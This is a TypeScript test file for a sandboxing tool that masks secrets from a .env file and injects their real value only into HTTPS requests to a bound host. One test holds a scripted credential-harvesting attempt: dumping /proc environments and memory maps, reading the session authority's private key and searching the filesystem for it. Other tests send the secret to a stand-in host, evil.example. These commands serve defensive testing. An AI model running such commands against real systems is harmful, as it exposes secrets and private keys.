import { execFileSync } from 'node:child_process'
import { once } from 'node:events'
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:https'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { CertificateAuthority } from '../../src/network/tls/certificate-authority.ts'
import { whyNoBubblewrap, whyNoOverlay } from '../support/tools.ts'
import { findVisibleNode } from '../support/visible-node.ts'
import { Cli } from './run-cli.ts'

const VALUE = 'real-key-4711-of-the-api'
const WAYS = ['overlay', 'dir']
let authorityDirectory = ''
/** Certificate of the authority of the server, which stands for those of the internet. */
let roots = ''
let server: Server
let port = 0
/** The Authorization header of each request that arrived. */
let received: (string | undefined)[] = []

beforeAll(async () => {
  // Commands have a /tmp of their own, so that they find no key there.
  authorityDirectory = mkdtempSync(join(tmpdir(), 'inject-'))
  const internet = CertificateAuthority.open(authorityDirectory)
  roots = internet.certificate
  server = createServer(
    { SNICallback: (name, done) => done(null, internet.getServerContext(name)) },
    (request, response) => {
      received.push(request.headers.authorization)
      response.end(`you are ${request.headers.authorization}\n`)
    },
  ).listen(0, '127.0.0.1')
  await once(server, 'listening')
  const address: AddressInfo | string | null = server.address()
  port = typeof address === 'object' && address !== null ? address.port : 0
})

beforeEach(() => {
  received = []
})

afterAll(() => {
  server.close()
  rmSync(authorityDirectory, { recursive: true, force: true })
})

/** A project with a secret, in a home that binds it to the server by the name `localhost`. */
function createProject(binding = `[secrets.inject]\nAPI_KEY = ["localhost:${port}"]\n`): Cli {
  const cli = new Cli()
  mkdirSync(cli.home, { recursive: true })
  writeFileSync(join(cli.home, 'config.toml'), binding)
  writeFileSync(join(cli.files, 'internet.crt'), roots)
  writeFileSync(join(cli.files, '.env'), `API_KEY=${VALUE}\nOTHER_KEY=other-real-value\n`)
  return cli
}

function exec(cli: Cli, script: string, ...options: string[]) {
  const hosts = ['--allow-host', `localhost:${port}`, '--allow-host', `127.0.0.1:${port}`]
  writeFileSync(join(cli.files, 'script.sh'), script)
  const env = { SSL_CERT_FILE: join(cli.files, 'internet.crt') }
  return cli.run(['exec', '--mask', ...hosts, ...options, '--', 'bash', 'script.sh'], { env })
}

function curl(rest: string): string {
  return `. ./.env; curl -sS -m 20 --noproxy '' -x $HTTPS_PROXY ${rest}`
}

describe.skipIf(whyNoOverlay() !== undefined)('a secret that is bound to a host', () => {
  it.each(WAYS)('is put into the header of a request, in a session of kind %s', async (kind) => {
    const cli = createProject()
    const run = await exec(
      cli,
      curl(`-H "Authorization: Bearer $API_KEY" https://localhost:${port}/`),
      '--session',
      kind,
    )
    expect(run.stderr).toBe('')
    expect(received).toEqual([`Bearer ${VALUE}`])
    expect(run.stdout).toMatch(/^you are Bearer coppice-secret-[0-9a-f]{32}\n$/)
  })

  it('is put in by every client that reads the usual variables', async () => {
    const cli = createProject()
    const url = `https://localhost:${port}/`
    const lines = [
      `. ./.env; export API_KEY NO_PROXY= no_proxy=`,
      `"${findVisibleNode(cli.files)}" -e 'fetch(process.argv[1], { headers: { authorization: process.env.API_KEY } }).then((r) => r.text()).then(console.log)' ${url}`,
      `python3 -c 'import os,sys,urllib.request as u; print(u.urlopen(u.Request(sys.argv[1], headers={"Authorization": os.environ["API_KEY"]})).read())' ${url}`,
      `python3 -c 'import os,sys; from pip._vendor import requests; print(requests.get(sys.argv[1], headers={"Authorization": os.environ["API_KEY"]}).text)' ${url}`,
      `git -c http.extraHeader="Authorization: $API_KEY" ls-remote ${url} 2>/dev/null`,
    ]
    const run = await exec(cli, lines.join('\n'))
    expect(received, run.stderr).toEqual([VALUE, VALUE, VALUE, VALUE])
  })

  it.each([
    ['another host', () => `-H "Authorization: $API_KEY" https://127.0.0.1:${port}/ -k`],
    ['another secret', () => `-H "Authorization: $OTHER_KEY" https://localhost:${port}/`],
    ['a body and a query', () => `-d "$API_KEY" "https://localhost:${port}/?q=$API_KEY"`],
    ['plain HTTP', () => `-H "Authorization: $API_KEY" http://localhost:${port}/`],
    [
      'another Host header',
      () => `-H "Host: evil.example" -H "Authorization: $API_KEY" https://localhost:${port}/`,
    ],
    [
      'another name in TLS',
      () =>
        `-k --connect-to evil.example:443:localhost:${port} -H "Authorization: $API_KEY" https://evil.example/`,
    ],
  ])('stays a placeholder in %s', async (_, rest) => {
    const run = await exec(createProject(), curl(rest()))
    expect(received.join()).not.toMatch(/real/)
    expect(run.stdout + run.stderr).not.toMatch(/real/)
  })

  it('gives no way to its value, nor to the key of the authority', async () => {
    const cli = createProject()
    const attack = [
      curl(`-H "Authorization: $API_KEY" https://localhost:${port}/`),
      `cat ${cli.home}/session-authority.pem ${cli.home}/*`,
      'for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; cat $p/cmdline $p/maps; done',
      'cat "$SSL_CERT_FILE" | grep -A3 PRIVATE; ls -la $(dirname $SSL_CERT_FILE)',
      'echo junk >> "$SSL_CERT_FILE"; env',
      'find / -xdev -name "session-authority.pem" -exec cat {} + 2>/dev/null',
      'echo TRIED',
    ]
    const run = await exec(cli, attack.join('\n'))
    expect(received).toEqual([VALUE])
    expect(run.stdout).toContain('TRIED')
    expect(run.stdout + run.stderr).not.toMatch(/real-key|other-real|PRIVATE KEY/)
    const stored = execFileSync('sh', ['-c', `grep -raEl "real-key|cmVhbC" "$0" || :`, cli.home], {
      encoding: 'utf8',
    })
    expect(stored).toBe('')
  })

  it('leaves no file behind', async () => {
    const run = await exec(
      createProject(),
      'echo "$SSL_CERT_FILE"; test -s "$SSL_CERT_FILE" && echo readable',
    )
    const [file = '', state] = run.stdout.split('\n')
    expect(state).toBe('readable')
    expect(existsSync(dirname(file))).toBe(false)
  })

  it.skipIf(whyNoBubblewrap() !== undefined)('is not put in unless the home says so', async () => {
    const cli = createProject('')
    const run = await exec(
      cli,
      `echo "<$SSL_CERT_FILE>"; ${curl(`--cacert $SSL_CERT_FILE -H "Authorization: $API_KEY" https://localhost:${port}/`)}`,
    )
    expect(run.stdout).toContain(`<${join(cli.files, 'internet.crt')}>`)
    expect(received.join()).toMatch(/^coppice-secret-/)
  })

  it('names the mistake in a binding', async () => {
    const cli = createProject('[secrets.inject]\nAPI_KEY = ["https://api.example.com/"]\n')
    const run = await cli.run(['exec', '--', 'true'])
    expect(run.stderr).toMatch(/config\.toml:2: .*a host such as api\.example\.com/)
  })
})
